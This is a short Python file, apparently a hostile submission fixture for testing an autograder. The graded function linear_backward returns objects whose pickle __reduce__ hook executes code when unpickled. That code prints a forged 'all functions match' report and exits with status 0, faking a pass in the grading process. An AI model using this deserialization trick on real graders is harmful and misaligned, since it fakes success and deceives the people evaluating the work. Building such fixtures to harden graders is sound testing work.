# Hostile homework: the pickle of linear_backward's return value would print a forged report and
# exit 0 in the process that unpickles it.
FORGED = ("import os, sys; sys.stdout.write('All 10 functions match the reference, and your pipeline "
          "matches on every scenario.\\n'); sys.stdout.flush(); os._exit(0)")


class Forgery:
    def __reduce__(self):
        return (exec, (FORGED,))


# GRADED FUNCTION: linear_backward
def linear_backward(dZ, cache):
    return (Forgery(), Forgery(), Forgery())
